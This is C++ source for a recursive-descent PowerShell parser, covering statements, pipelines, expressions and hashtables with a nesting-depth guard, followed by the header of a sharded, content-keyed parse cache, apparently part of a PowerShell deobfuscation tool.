  int depth_ = 0;

  /// Recursion bound for the descent: a hostile script nested hundreds of
  /// groups deep must fail with ParseError, not overflow the thread stack
  /// (worker threads under ASan overflow near ~600 nested groups). One
  /// group level costs ~2 guarded entries, so this still admits the ~200
  /// paren levels the deep-nesting contract test requires while staying
  /// under half of an 8 MiB thread stack even with ASan-sized frames.
  static constexpr int kMaxNesting = 600;

  struct DepthGuard {
    explicit DepthGuard(Parser& p) : p_(p) {
      if (++p_.depth_ > kMaxNesting) p_.fail("nesting too deep");
    }
    ~DepthGuard() { --p_.depth_; }
    Parser& p_;
  };

  [[noreturn]] void fail(const std::string& msg) {
    const std::size_t off = done() ? source_size_ : cur().start;
    throw ParseError(msg, off);
  }

  void skip_skippable() {
    while (i_ < toks_.size() && ignore_newlines_ > 0 &&
           toks_[i_].type == TokenType::NewLine) {
      ++i_;
    }
  }

  bool done() {
    skip_skippable();
    return i_ >= toks_.size();
  }

  const Token& cur() {
    skip_skippable();
    if (i_ >= toks_.size()) fail("unexpected end of input");
    return toks_[i_];
  }

  const Token& peek_ahead(std::size_t n = 1) {
    skip_skippable();
    std::size_t j = i_, seen = 0;
    while (j < toks_.size()) {
      if (ignore_newlines_ > 0 && toks_[j].type == TokenType::NewLine) {
        ++j;
        continue;
      }
      if (seen == n) return toks_[j];
      ++seen;
      ++j;
    }
    static const Token eof{};
    return eof;
  }

  const Token& take() {
    const Token& t = cur();
    ++i_;
    return t;
  }

  std::size_t prev_end() const {
    return i_ > 0 ? toks_[i_ - 1].end() : 0;
  }

  bool at_separator() {
    if (done()) return true;
    const Token& t = toks_[i_];
    return t.type == TokenType::NewLine || t.type == TokenType::StatementSeparator;
  }

  void skip_separators() {
    while (i_ < toks_.size() && (toks_[i_].type == TokenType::NewLine ||
                                 toks_[i_].type == TokenType::StatementSeparator)) {
      ++i_;
    }
  }

  bool at_group_end() {
    return !done() && cur().type == TokenType::GroupEnd;
  }

  void expect_group_end(std::string_view g) {
    if (done() || !is_group_end(cur(), g)) {
      fail(std::string("expected '") + std::string(g) + "'");
    }
    take();
  }

  // ----------------------------------------------------------- structure

  ArenaPtr<ScriptBlockAst> parse_script_block_body(std::size_t start,
                                                          std::size_t end_hint,
                                                          std::string_view closer) {
    skip_separators();
    ArenaPtr<ParamBlockAst> param_block;
    if (!done() && is_kw(cur(), "param")) {
      param_block = parse_param_block();
      skip_separators();
    }

    std::vector<ArenaPtr<NamedBlockAst>> blocks;
    if (!done() && cur().type == TokenType::Keyword &&
        (iequals(cur().content, "begin") || iequals(cur().content, "process") ||
         iequals(cur().content, "end"))) {
      while (!done() && cur().type == TokenType::Keyword &&
             (iequals(cur().content, "begin") || iequals(cur().content, "process") ||
              iequals(cur().content, "end"))) {
        const Token& kw = take();
        NamedBlockAst::BlockName name = NamedBlockAst::BlockName::End;
        if (iequals(kw.content, "begin")) name = NamedBlockAst::BlockName::Begin;
        else if (iequals(kw.content, "process")) name = NamedBlockAst::BlockName::Process;
        if (done() || !is_group_start(cur(), "{")) fail("expected '{' after named block");
        take();
        std::vector<AstPtr> stmts;
        parse_statement_list(stmts, "}");
        const std::size_t bend = prev_end();
        expect_group_end("}");
        blocks.push_back(mk<NamedBlockAst>(kw.start, prev_end(),
                                                         name, std::move(stmts)));
        (void)bend;
        skip_separators();
      }
    } else {
      std::vector<AstPtr> stmts;
      parse_statement_list(stmts, closer);
      const std::size_t bstart = stmts.empty() ? start : stmts.front()->start();
      const std::size_t bend = stmts.empty() ? start : stmts.back()->end();
      blocks.push_back(mk<NamedBlockAst>(
          bstart, bend, NamedBlockAst::BlockName::Unnamed, std::move(stmts)));
    }
    return mk<ScriptBlockAst>(start, end_hint,
                                            std::move(param_block),
                                            std::move(blocks));
  }

  ArenaPtr<ParamBlockAst> parse_param_block() {
    const std::size_t start = cur().start;
    take();  // param
    if (done() || !is_group_start(cur(), "(")) fail("expected '(' after param");
    take();
    ++ignore_newlines_;
    auto params = parse_parameter_list(")");
    --ignore_newlines_;
    expect_group_end(")");
    return mk<ParamBlockAst>(start, prev_end(), std::move(params));
  }

  std::vector<ArenaPtr<ParameterAst>> parse_parameter_list(
      std::string_view closer) {
    std::vector<ArenaPtr<ParameterAst>> params;
    while (!done() && !is_group_end(cur(), closer)) {
      // Optional type constraint before the variable.
      if (cur().type == TokenType::Type) take();
      if (cur().type != TokenType::Variable) fail("expected parameter variable");
      const Token& var = take();
      AstPtr def;
      if (!done() && is_op(cur(), "=")) {
        take();
        def = parse_expression();
      }
      params.push_back(mk<ParameterAst>(var.start, prev_end(),
                                                      var.content, std::move(def)));
      if (!done() && is_op(cur(), ",")) take();
    }
    return params;
  }

  void parse_statement_list(std::vector<AstPtr>& out, std::string_view closer) {
    while (true) {
      skip_separators();
      if (done()) break;
      if (cur().type == TokenType::GroupEnd) {
        if (!closer.empty() && is_group_end(cur(), closer)) break;
        if (closer.empty()) fail("unexpected '" + std::string(cur().text) + "'");
        break;
      }
      out.push_back(parse_statement());
      // PowerShell statements are separated by newlines or semicolons;
      // accepting run-on statements would paper over exactly the breakage
      // that line-flattening tools introduce.
      if (!done() && cur().type != TokenType::GroupEnd && !at_separator()) {
        fail("expected statement separator before '" + std::string(cur().text) + "'");
      }
    }
  }

  AstPtr parse_statement_block() {
    if (done() || !is_group_start(cur(), "{")) fail("expected '{'");
    const std::size_t start = cur().start;
    take();
    std::vector<AstPtr> stmts;
    parse_statement_list(stmts, "}");
    expect_group_end("}");
    return mk<StatementBlockAst>(start, prev_end(), std::move(stmts));
  }

  // ---------------------------------------------------------- statements

  AstPtr parse_statement() {
    DepthGuard guard(*this);
    const Token& t = cur();
    if (t.type == TokenType::Keyword) {
      const std::string kw = to_lower(t.content);
      if (kw == "if") return parse_if();
      if (kw == "while") return parse_while();
      if (kw == "do") return parse_do();
      if (kw == "for") return parse_for();
      if (kw == "foreach") return parse_foreach();
      if (kw == "switch") return parse_switch();
      if (kw == "function" || kw == "filter") return parse_function();
      if (kw == "try") return parse_try();
      if (kw == "return") return parse_flow(NodeKind::ReturnStatement);
      if (kw == "break") return parse_flow(NodeKind::BreakStatement);
      if (kw == "continue") return parse_flow(NodeKind::ContinueStatement);
      if (kw == "throw") return parse_flow(NodeKind::ThrowStatement);
      if (kw == "param") {
        // A stray param block (scriptblock bodies reach here).
        return parse_param_block();
      }
      fail("unsupported keyword '" + kw + "'");
    }
    return parse_pipeline();
  }

  AstPtr parse_condition_paren() {
    if (done() || !is_group_start(cur(), "(")) fail("expected '('");
    take();
    ++ignore_newlines_;
    AstPtr cond = parse_pipeline();
    --ignore_newlines_;
    expect_group_end(")");
    return cond;
  }

  AstPtr parse_if() {
    const std::size_t start = cur().start;
    take();  // if
    std::vector<IfStatementAst::Clause> clauses;
    {
      IfStatementAst::Clause c;
      c.condition = parse_condition_paren();
      skip_separators_limited();
      c.body = parse_statement_block();
      clauses.push_back(std::move(c));
    }
    AstPtr else_body;
    while (true) {
      const std::size_t save = i_;
      skip_separators_limited();
      if (!done() && is_kw(cur(), "elseif")) {
        take();
        IfStatementAst::Clause c;
        c.condition = parse_condition_paren();
        skip_separators_limited();
        c.body = parse_statement_block();
        clauses.push_back(std::move(c));
        continue;
      }
      if (!done() && is_kw(cur(), "else")) {
        take();
        skip_separators_limited();
        else_body = parse_statement_block();
        break;
      }
      i_ = save;
      break;
    }
    return mk<IfStatementAst>(start, prev_end(), std::move(clauses),
                                            std::move(else_body));
  }

  /// Skips newlines between a `)` / `}` and the following `{` / keyword.
  void skip_separators_limited() {
    while (i_ < toks_.size() && toks_[i_].type == TokenType::NewLine) ++i_;
  }

  AstPtr parse_while() {
    const std::size_t start = cur().start;
    take();
    AstPtr cond = parse_condition_paren();
    skip_separators_limited();
    AstPtr body = parse_statement_block();
    return mk<WhileStatementAst>(start, prev_end(), std::move(cond),
                                               std::move(body));
  }

  AstPtr parse_do() {
    const std::size_t start = cur().start;
    take();
    skip_separators_limited();
    AstPtr body = parse_statement_block();
    skip_separators_limited();
    bool until = false;
    if (!done() && is_kw(cur(), "until")) {
      until = true;
      take();
    } else if (!done() && is_kw(cur(), "while")) {
      take();
    } else {
      fail("expected while/until after do block");
    }
    AstPtr cond = parse_condition_paren();
    return mk<DoWhileStatementAst>(start, prev_end(), std::move(body),
                                                 std::move(cond), until);
  }

  AstPtr parse_for() {
    const std::size_t start = cur().start;
    take();
    if (done() || !is_group_start(cur(), "(")) fail("expected '(' after for");
    take();
    ++ignore_newlines_;
    AstPtr init, cond, iter;
    if (!done() && cur().type != TokenType::StatementSeparator) {
      init = parse_pipeline();
    }
    if (!done() && cur().type == TokenType::StatementSeparator) take();
    if (!done() && cur().type != TokenType::StatementSeparator &&
        !is_group_end(cur(), ")")) {
      cond = parse_pipeline();
    }
    if (!done() && cur().type == TokenType::StatementSeparator) take();
    if (!done() && !is_group_end(cur(), ")")) {
      iter = parse_pipeline();
    }
    --ignore_newlines_;
    expect_group_end(")");
    skip_separators_limited();
    AstPtr body = parse_statement_block();
    return mk<ForStatementAst>(start, prev_end(), std::move(init),
                                             std::move(cond), std::move(iter),
                                             std::move(body));
  }

  AstPtr parse_foreach() {
    const std::size_t start = cur().start;
    take();
    if (done() || !is_group_start(cur(), "(")) fail("expected '(' after foreach");
    take();
    ++ignore_newlines_;
    if (done() || cur().type != TokenType::Variable) {
      fail("expected variable in foreach");
    }
    const Token& var = take();
    AstPtr var_ast = mk<VariableExpressionAst>(var.start, var.end(),
                                                             var.content);
    if (done() || !is_kw(cur(), "in")) fail("expected 'in' in foreach");
    take();
    AstPtr expr = parse_pipeline();
    --ignore_newlines_;
    expect_group_end(")");
    skip_separators_limited();
    AstPtr body = parse_statement_block();
    return mk<ForEachStatementAst>(start, prev_end(),
                                                 std::move(var_ast),
                                                 std::move(expr), std::move(body));
  }

  AstPtr parse_switch() {
    const std::size_t start = cur().start;
    take();
    // Optional flags such as -regex / -wildcard / -exact.
    while (!done() && cur().type == TokenType::CommandParameter) take();
    AstPtr cond = parse_condition_paren();
    skip_separators_limited();
    if (done() || !is_group_start(cur(), "{")) fail("expected '{' in switch");
    take();
    std::vector<SwitchStatementAst::Clause> clauses;
    while (true) {
      skip_separators();
      if (done()) fail("unterminated switch");
      if (is_group_end(cur(), "}")) break;
      SwitchStatementAst::Clause clause;
      if ((cur().type == TokenType::Command ||
           cur().type == TokenType::CommandArgument ||
           (cur().type == TokenType::String && cur().quote == QuoteKind::None)) &&
          iequals(cur().content, "default")) {
        take();
      } else if (cur().type == TokenType::Command ||
                 cur().type == TokenType::CommandArgument) {
        const Token& word = take();
        clause.pattern = mk<StringConstantExpressionAst>(
            word.start, word.end(), word.content, QuoteKind::None);
      } else {
        clause.pattern = parse_expression();
      }
      skip_separators_limited();
      clause.body = parse_statement_block();
      clauses.push_back(std::move(clause));
    }
    expect_group_end("}");
    return mk<SwitchStatementAst>(start, prev_end(), std::move(cond),
                                                std::move(clauses));
  }

  AstPtr parse_function() {
    const std::size_t start = cur().start;
    const bool filter = iequals(cur().content, "filter");
    take();
    if (done()) fail("expected function name");
    const Token& name_tok = take();
    std::string name(name_tok.content);
    std::vector<ArenaPtr<ParameterAst>> params;
    if (!done() && is_group_start(cur(), "(")) {
      take();
      ++ignore_newlines_;
      params = parse_parameter_list(")");
      --ignore_newlines_;
      expect_group_end(")");
    }
    skip_separators_limited();
    if (done() || !is_group_start(cur(), "{")) fail("expected '{' in function");
    const std::size_t body_start = cur().start;
    take();
    auto body = parse_script_block_body(body_start, 0, "}");
    expect_group_end("}");
    body->set_extent(body_start, prev_end());
    return mk<FunctionDefinitionAst>(start, prev_end(),
                                                   std::move(name),
                                                   std::move(params),
                                                   std::move(body), filter);
  }

  AstPtr parse_try() {
    const std::size_t start = cur().start;
    take();
    skip_separators_limited();
    AstPtr body = parse_statement_block();
    std::vector<AstPtr> catches;
    AstPtr finally_body;
    while (true) {
      const std::size_t save = i_;
      skip_separators_limited();
      if (!done() && is_kw(cur(), "catch")) {
        take();
        while (!done() && cur().type == TokenType::Type) take();
        skip_separators_limited();
        catches.push_back(parse_statement_block());
        continue;
      }
      if (!done() && is_kw(cur(), "finally")) {
        take();
        skip_separators_limited();
        finally_body = parse_statement_block();
        break;
      }
      i_ = save;
      break;
    }
    if (catches.empty() && finally_body == nullptr) {
      fail("try without catch or finally");
    }
    return mk<TryStatementAst>(start, prev_end(), std::move(body),
                                             std::move(catches),
                                             std::move(finally_body));
  }

  AstPtr parse_flow(NodeKind kind) {
    const std::size_t start = cur().start;
    take();
    AstPtr operand;
    if (!at_separator() && !done() && cur().type != TokenType::GroupEnd) {
      operand = parse_pipeline();
    }
    return mk<FlowStatementAst>(kind, start, prev_end(),
                                              std::move(operand));
  }

  // ----------------------------------------------------------- pipelines

  bool starts_command() {
    const Token& t = cur();
    if (t.type == TokenType::Command) return true;
    if (is_op(t, "&") || is_op(t, ".")) return true;
    return false;
  }

  /// Parses one pipeline; returns an AssignmentStatementAst instead when the
  /// first element is an assignable expression followed by an assignment
  /// operator (PowerShell grammar treats assignment at this level).
  AstPtr parse_pipeline() {
    const std::size_t start = cur().start;
    std::vector<AstPtr> elements;

    if (!starts_command()) {
      AstPtr expr = parse_expression();
      if (!done() && is_assignment_op(cur())) {
        const std::string op(take().content);
        skip_separators_limited_inside();
        AstPtr rhs = parse_statement();
        return mk<AssignmentStatementAst>(start, prev_end(),
                                                        std::move(expr), op,
                                                        std::move(rhs));
      }
      elements.push_back(mk<CommandExpressionAst>(
          expr->start(), expr->end(), std::move(expr)));
    } else {
      elements.push_back(parse_command());
    }

    while (!done() && is_op(cur(), "|")) {
      take();
      skip_separators_limited_inside();
      if (done()) fail("pipeline ends with '|'");
      if (starts_command()) {
        elements.push_back(parse_command());
      } else {
        AstPtr expr = parse_expression();
        elements.push_back(mk<CommandExpressionAst>(
            expr->start(), expr->end(), std::move(expr)));
      }
    }
    return mk<PipelineAst>(start, prev_end(), std::move(elements));
  }

  /// After `|` or `=` a newline is allowed before the continuation.
  void skip_separators_limited_inside() {
    while (i_ < toks_.size() && toks_[i_].type == TokenType::NewLine) ++i_;
  }

  AstPtr parse_command() {
    const std::size_t start = cur().start;
    CommandAst::Invocation inv = CommandAst::Invocation::None;
    if (is_op(cur(), "&")) {
      inv = CommandAst::Invocation::Ampersand;
      take();
    } else if (is_op(cur(), ".")) {
      inv = CommandAst::Invocation::Dot;
      take();
    }
    std::vector<AstPtr> elements;
    while (!done()) {
      const Token& t = cur();
      if (t.type == TokenType::NewLine || t.type == TokenType::StatementSeparator ||
          t.type == TokenType::GroupEnd || is_op(t, "|")) {
        break;
      }
      if (t.type == TokenType::Command || t.type == TokenType::CommandArgument) {
        const Token& w = take();
        if (elements.empty()) {
          // The command-name element is always a bareword string.
          elements.push_back(mk<StringConstantExpressionAst>(
              w.start, w.end(), w.content, QuoteKind::None));
        } else {
          elements.push_back(make_command_word(*arena_, w));
        }
        continue;
      }
      if (t.type == TokenType::CommandParameter) {
        const Token& p = take();
        AstPtr argument;
        std::string name(p.content);
        if (!name.empty() && name.back() == ':') {
          name.pop_back();
          if (!done()) argument = parse_command_element_operand();
        }
        elements.push_back(mk<CommandParameterAst>(
            p.start, prev_end(), name, std::move(argument)));
        continue;
      }
      if (t.type == TokenType::Operator) {
        if (t.content == ",") {
          // Array argument: bind the previous element and the next operand.
          take();
          AstPtr next = parse_command_element_operand();
          if (elements.empty()) fail("unexpected ','");
          AstPtr prev = std::move(elements.back());
          elements.pop_back();
          std::vector<AstPtr> items;
          const std::size_t astart = prev->start();
          if (prev->kind() == NodeKind::ArrayLiteral) {
            auto* arr = static_cast<ArrayLiteralAst*>(prev.get());
            items = std::move(arr->elements);
          } else {
            items.push_back(std::move(prev));
          }
          items.push_back(std::move(next));
          elements.push_back(mk<ArrayLiteralAst>(astart, prev_end(),
                                                               std::move(items)));
          continue;
        }
        if (t.content.find('>') != std::string::npos) {
          // Redirection: consume the operator and, for file targets, the
          // target word; semantics are recorded by the interpreter's
          // command layer, not the AST.
          take();
          if (!done() && (cur().type == TokenType::CommandArgument ||
                          cur().type == TokenType::String ||
                          cur().type == TokenType::Variable)) {
            const Token& w = take();
            elements.push_back(mk<StringConstantExpressionAst>(
                w.start, w.end(), w.content, QuoteKind::None));
          }
          continue;
        }
        break;  // any other operator terminates the command
      }
      elements.push_back(parse_command_element_operand());
    }
    if (elements.empty()) fail("empty command");
    return mk<CommandAst>(start, prev_end(), inv, std::move(elements));
  }

  /// One operand in command-argument position: a string/variable/group with
  /// optional postfix member/index chains.
  AstPtr parse_command_element_operand() {
    const Token& t = cur();
    AstPtr prim;
    if (t.type == TokenType::Command || t.type == TokenType::CommandArgument) {
      return make_command_word(*arena_, take());
    }
    prim = parse_primary();
    return parse_postfix(std::move(prim));
  }

  // --------------------------------------------------------- expressions

  AstPtr parse_expression() { return parse_logical(); }

  AstPtr parse_logical() {
    AstPtr lhs = parse_bitwise();
    while (!done() && token_in(cur(), kLogicalOps)) {
      const std::string op = to_lower(take().content);
      skip_separators_limited_inside();
      AstPtr rhs = parse_bitwise();
      const std::size_t s = lhs->start();
      lhs = mk<BinaryExpressionAst>(s, prev_end(), std::move(lhs),
                                                  op, std::move(rhs));
    }
    return lhs;
  }

  AstPtr parse_bitwise() {
    AstPtr lhs = parse_comparison();
    while (!done() && token_in(cur(), kBitwiseOps)) {
      const std::string op = to_lower(take().content);
      skip_separators_limited_inside();
      AstPtr rhs = parse_comparison();
      const std::size_t s = lhs->start();
      lhs = mk<BinaryExpressionAst>(s, prev_end(), std::move(lhs),
                                                  op, std::move(rhs));
    }
    return lhs;
  }

  AstPtr parse_comparison() {
    AstPtr lhs = parse_format();
    while (!done() && token_in(cur(), kComparisonOps)) {
      const std::string op = to_lower(take().content);
      skip_separators_limited_inside();
      AstPtr rhs = parse_format();
      const std::size_t s = lhs->start();
      lhs = mk<BinaryExpressionAst>(s, prev_end(), std::move(lhs),
                                                  op, std::move(rhs));
    }
    return lhs;
  }

  AstPtr parse_format() {
    AstPtr lhs = parse_range();
    while (!done() && is_op(cur(), "-f")) {
      take();
      skip_separators_limited_inside();
      AstPtr rhs = parse_range();
      const std::size_t s = lhs->start();
      lhs = mk<BinaryExpressionAst>(s, prev_end(), std::move(lhs),
                                                  "-f", std::move(rhs));
    }
    return lhs;
  }

  AstPtr parse_range() {
    AstPtr lhs = parse_comma();
    while (!done() && is_op(cur(), "..")) {
      take();
      AstPtr rhs = parse_comma();
      const std::size_t s = lhs->start();
      lhs = mk<BinaryExpressionAst>(s, prev_end(), std::move(lhs),
                                                  "..", std::move(rhs));
    }
    return lhs;
  }

  AstPtr parse_comma() {
    AstPtr first = parse_additive();
    if (done() || !is_op(cur(), ",")) return first;
    std::vector<AstPtr> items;
    const std::size_t s = first->start();
    items.push_back(std::move(first));
    while (!done() && is_op(cur(), ",")) {
      take();
      skip_separators_limited_inside();
      items.push_back(parse_additive());
    }
    return mk<ArrayLiteralAst>(s, prev_end(), std::move(items));
  }

  AstPtr parse_additive() {
    AstPtr lhs = parse_multiplicative();
    while (!done() && token_in(cur(), kAdditiveOps)) {
      const std::string op(take().content);
      skip_separators_limited_inside();
      AstPtr rhs = parse_multiplicative();
      const std::size_t s = lhs->start();
      lhs = mk<BinaryExpressionAst>(s, prev_end(), std::move(lhs),
                                                  op, std::move(rhs));
    }
    return lhs;
  }

  AstPtr parse_multiplicative() {
    AstPtr lhs = parse_unary();
    while (!done() && token_in(cur(), kMultiplicativeOps)) {
      const std::string op(take().content);
      skip_separators_limited_inside();
      AstPtr rhs = parse_unary();
      const std::size_t s = lhs->start();
      lhs = mk<BinaryExpressionAst>(s, prev_end(), std::move(lhs),
                                                  op, std::move(rhs));
    }
    return lhs;
  }

  bool starts_operand() {
    if (done()) return false;
    const Token& t = cur();
    switch (t.type) {
      case TokenType::Number:
      case TokenType::String:
      case TokenType::Variable:
      case TokenType::Type:
      case TokenType::GroupStart:
        return true;
      case TokenType::Operator:
        return token_in(t, kUnaryOps) || iequals(t.content, "++") ||
               iequals(t.content, "--");
      default:
        return false;
    }
  }

  AstPtr parse_unary() {
    const Token& t = cur();
    if (t.type == TokenType::Operator &&
        (token_in(t, kUnaryOps) || t.content == "++" || t.content == "--")) {
      const std::size_t start = t.start;
      const std::string op = to_lower(take().content);
      AstPtr child = parse_unary();
      return mk<UnaryExpressionAst>(start, prev_end(), op,
                                                  std::move(child));
    }
    if (t.type == TokenType::Type) {
      const Token& ty = take();
      // `[type]` followed by an operand is a cast; otherwise a type literal
      // usable with `::` postfix.
      if (starts_operand()) {
        AstPtr child = parse_unary();
        return parse_postfix(mk<ConvertExpressionAst>(
            ty.start, prev_end(), ty.content, std::move(child)));
      }
      return parse_postfix(mk<TypeExpressionAst>(ty.start, ty.end(),
                                                               ty.content));
    }
    return parse_postfix(parse_primary());
  }

  AstPtr parse_member_name() {
    const Token& t = cur();
    if (t.type == TokenType::Member || t.type == TokenType::CommandArgument ||
        t.type == TokenType::Command) {
      const Token& m = take();
      return mk<StringConstantExpressionAst>(m.start, m.end(),
                                                           m.content,
                                                           QuoteKind::None);
    }
    if (t.type == TokenType::String) {
      const Token& m = take();
      if (m.expandable) {
        return mk<ExpandableStringExpressionAst>(m.start, m.end(),
                                                               m.content, m.quote);
      }
      return mk<StringConstantExpressionAst>(m.start, m.end(),
                                                           m.content, m.quote);
    }
    if (t.type == TokenType::Variable) {
      const Token& m = take();
      return mk<VariableExpressionAst>(m.start, m.end(), m.content);
    }
    if (is_group_start(t, "(")) {
      return parse_paren();
    }
    fail("expected member name");
  }

  AstPtr parse_postfix(AstPtr expr) {
    while (!done()) {
      const Token& t = cur();
      if (is_op(t, ".") || is_op(t, "::")) {
        const bool is_static = t.content == "::";
        take();
        AstPtr member = parse_member_name();
        const std::size_t s = expr->start();
        // Adjacent '(' turns the member access into a method invocation.
        if (!done() && is_group_start(cur(), "(") &&
            cur().start == prev_end()) {
          std::vector<AstPtr> args = parse_invoke_args();
          expr = mk<InvokeMemberExpressionAst>(
              s, prev_end(), std::move(expr), std::move(member), is_static,
              std::move(args));
        } else {
          expr = mk<MemberExpressionAst>(s, prev_end(),
                                                       std::move(expr),
                                                       std::move(member),
                                                       is_static);
        }
        continue;
      }
      if (is_group_start(t, "[")) {
        take();
        ++ignore_newlines_;
        AstPtr index = parse_expression();
        --ignore_newlines_;
        expect_group_end("]");
        const std::size_t s = expr->start();
        expr = mk<IndexExpressionAst>(s, prev_end(), std::move(expr),
                                                    std::move(index));
        continue;
      }
      if (is_op(t, "++") || is_op(t, "--")) {
        const std::string op = std::string(take().content) + "_post";
        const std::size_t s = expr->start();
        expr = mk<UnaryExpressionAst>(s, prev_end(), op,
                                                    std::move(expr));
        continue;
      }
      break;
    }
    return expr;
  }

  std::vector<AstPtr> parse_invoke_args() {
    take();  // (
    ++ignore_newlines_;
    std::vector<AstPtr> args;
    if (!done() && !is_group_end(cur(), ")")) {
      AstPtr expr = parse_expression();
      if (expr->kind() == NodeKind::ArrayLiteral) {
        // Comma-separated argument list parsed as one array literal.
        auto* arr = static_cast<ArrayLiteralAst*>(expr.get());
        for (auto& el : arr->elements) args.push_back(std::move(el));
      } else {
        args.push_back(std::move(expr));
      }
    }
    --ignore_newlines_;
    expect_group_end(")");
    return args;
  }

  AstPtr parse_paren() {
    const std::size_t start = cur().start;
    take();  // (
    ++ignore_newlines_;
    AstPtr inner = parse_statement();
    --ignore_newlines_;
    expect_group_end(")");
    return mk<ParenExpressionAst>(start, prev_end(),
                                                std::move(inner));
  }

  AstPtr parse_primary() {
    DepthGuard guard(*this);
    if (done()) fail("expected expression");
    const Token& t = cur();
    switch (t.type) {
      case TokenType::Number: {
        const Token& n = take();
        return mk<ConstantExpressionAst>(
            n.start, n.end(), parse_number_token(n.content));
      }
      case TokenType::String: {
        const Token& s = take();
        if (s.expandable) {
          return mk<ExpandableStringExpressionAst>(s.start, s.end(),
                                                                 s.content, s.quote);
        }
        return mk<StringConstantExpressionAst>(s.start, s.end(),
                                                             s.content, s.quote);
      }
      case TokenType::Variable: {
        const Token& v = take();
        return mk<VariableExpressionAst>(v.start, v.end(), v.content);
      }
      case TokenType::Type: {
        const Token& ty = take();
        return mk<TypeExpressionAst>(ty.start, ty.end(), ty.content);
      }
      case TokenType::Command:
      case TokenType::CommandArgument: {
        // Stray bareword in expression position: surface as bareword string.
        const Token& w = take();
        return mk<StringConstantExpressionAst>(w.start, w.end(),
                                                             w.content,
                                                             QuoteKind::None);
      }
      case TokenType::GroupStart: {
        if (t.content == "(") return parse_paren();
        if (t.content == "$(") {
          const std::size_t start = t.start;
          take();
          std::vector<AstPtr> stmts;
          parse_statement_list(stmts, ")");
          expect_group_end(")");
          return mk<SubExpressionAst>(start, prev_end(),
                                                    std::move(stmts));
        }
        if (t.content == "@(") {
          const std::size_t start = t.start;
          take();
          std::vector<AstPtr> stmts;
          parse_statement_list(stmts, ")");
          expect_group_end(")");
          return mk<ArrayExpressionAst>(start, prev_end(),
                                                      std::move(stmts));
        }
        if (t.content == "@{") {
          return parse_hashtable();
        }
        if (t.content == "{") {
          const std::size_t start = t.start;
          take();
          const std::size_t body_start = done() ? start + 1 : cur().start;
          auto body = parse_script_block_body(body_start, 0, "}");
          if (done() || !is_group_end(cur(), "}")) fail("expected '}'");
          const std::size_t body_end = cur().start;
          take();
          body->set_extent(start + 1, body_end);
          return mk<ScriptBlockExpressionAst>(
              start, prev_end(), std::move(body), std::string());
        }
        fail("unexpected group '" + std::string(t.content) + "'");
      }
      default:
        fail("unexpected token '" + std::string(t.text) + "'");
    }
  }

  AstPtr parse_hashtable() {
    const std::size_t start = cur().start;
    take();  // @{
    std::vector<HashtableExpressionAst::Entry> entries;
    while (true) {
      skip_separators();
      if (done()) fail("unterminated hashtable");
      if (is_group_end(cur(), "}")) break;
      HashtableExpressionAst::Entry entry;
      const Token& k = cur();
      if (k.type == TokenType::Command || k.type == TokenType::CommandArgument ||
          k.type == TokenType::Member) {
        const Token& kt = take();
        entry.key = mk<StringConstantExpressionAst>(
            kt.start, kt.end(), kt.content, QuoteKind::None);
      } else {
        entry.key = parse_primary();
      }
      if (done() || !is_op(cur(), "=")) fail("expected '=' in hashtable");
      take();
      skip_separators_limited_inside();
      entry.value = parse_statement();
      entries.push_back(std::move(entry));
    }
    expect_group_end("}");
    return mk<HashtableExpressionAst>(start, prev_end(),
                                                    std::move(entries));
  }
};

}  // namespace

namespace {
std::atomic<std::uint64_t> g_parse_calls{0};
}  // namespace

std::uint64_t parse_call_count() {
  return g_parse_calls.load(std::memory_order_relaxed);
}

const ScriptBlockAst* parse_into(Arena& arena, std::string_view source) {
  g_parse_calls.fetch_add(1, std::memory_order_relaxed);
  ideobf::telemetry::PhaseSpan parse_span(ideobf::telemetry::Phase::Parse);
  TokenStream tokens = [&] {
    ideobf::telemetry::PhaseSpan lex_span(ideobf::telemetry::Phase::Lex);
    return tokenize(source);
  }();
  Parser parser(std::move(tokens), source.size(), arena);
  return parser.parse_script();
}

ParsedScript parse(std::string_view source) {
  auto arena = std::make_shared<Arena>();
  const ScriptBlockAst* root = parse_into(*arena, source);
  return ParsedScript(std::move(arena), root);
}

ParsedScript try_parse(std::string_view source, std::string* error) {
  try {
    return parse(source);
  } catch (const ParseError& e) {
    if (error != nullptr) *error = e.what();
  } catch (const LexError& e) {
    if (error != nullptr) *error = e.what();
  }
  return ParsedScript();
}

bool is_valid_syntax(std::string_view source) {
  return try_parse(source) != nullptr;
}

}  // namespace ps
