#pragma once

/// \file parse_cache.h
/// Parse-once pipeline support: a thread-safe, sharded, content-keyed parse
/// cache. One parse of any given script text serves the deobfuscator's
/// per-step syntax check, the next phase's AST input, and the multilayer
/// recursion, instead of each of those re-parsing the identical text.
/// Entries are LRU-bounded per shard and carry a validity verdict, so
/// syntactically invalid intermediates are negative-cached too.

#include <atomic>
#include <cstdint>
#include <list>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <unordered_map>

#include "psast/ast.h"

namespace ps {

struct ParseCacheStats {
  std::uint64_t hits = 0;
  std::uint64_t misses = 0;      ///< lookups that had to parse
  std::uint64_t evictions = 0;   ///< entries dropped by the LRU bound
  std::uint64_t bypasses = 0;    ///< oversized texts parsed uncached
};

/// Content-hash-keyed cache of parses. Safe for concurrent use from any
/// number of threads; parsing happens outside the shard lock, so a slow
/// parse never blocks lookups of other texts in the same shard.
class ParseCache {
 public:
  /// A cached parse. `ast` is an arena-backed handle (== nullptr when the
  /// text does not parse). `source` owns the exact text the AST extents
  /// index into and lives *inside* the same arena, so handing out a cached
  /// parse costs refcount bumps on a single shared Arena — no per-node
  /// atomics, no separate source allocation. Since extents are plain
  /// offsets they are equally valid against any caller buffer with
  /// identical content.
  struct Result {
    ParsedScript ast;
    std::shared_ptr<const std::string> source;
    bool valid = false;
  };

  /// `max_entries` bounds the total entry count across all shards; texts
  /// larger than `max_text_bytes` are parsed but never stored.
  explicit ParseCache(std::size_t max_entries = 512,
                      std::size_t max_text_bytes = 1u << 20);

  /// The cached parse of `text`, parsing on a miss.
  Result get(std::string_view text);

  /// Cached equivalent of ps::is_valid_syntax.
  bool is_valid(std::string_view text) { return get(text).valid; }

  [[nodiscard]] ParseCacheStats stats() const;
  [[nodiscard]] std::size_t size() const;
  void clear();

 private:
  struct StringHash {
    using is_transparent = void;
    std::size_t operator()(std::string_view s) const {
      return std::hash<std::string_view>{}(s);
    }
    std::size_t operator()(const std::string& s) const {
      return (*this)(std::string_view(s));
    }
  };
  struct Entry {
    Result result;
    std::list<const std::string*>::iterator lru_it;
  };
  struct Shard {
    std::mutex mu;
    std::unordered_map<std::string, Entry, StringHash, std::equal_to<>> map;
    std::list<const std::string*> lru;  ///< most recently used at the front
  };

